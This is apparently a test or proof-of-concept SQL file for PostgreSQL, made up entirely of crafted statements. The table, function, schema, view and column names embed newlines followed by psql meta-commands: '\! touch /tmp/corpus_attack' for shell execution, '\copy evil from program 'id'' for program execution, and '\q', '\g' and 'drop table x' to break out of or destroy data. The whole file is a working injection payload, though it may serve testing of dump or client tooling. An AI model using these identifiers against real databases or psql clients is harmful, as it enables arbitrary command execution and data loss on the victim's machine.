CREATE TABLE "x
\! touch /tmp/corpus_attack
--" (a int); CREATE FUNCTION "f
\copy evil from program 'id'"() RETURNS int LANGUAGE sql AS 'SELECT 1'; CREATE SCHEMA "s
\q"; CREATE VIEW "s
\q"."v
drop table x; --" AS SELECT 1 AS "c
\g"; COMMENT ON TABLE "x
\! touch /tmp/corpus_attack
--" IS E'\n\\! id\n';
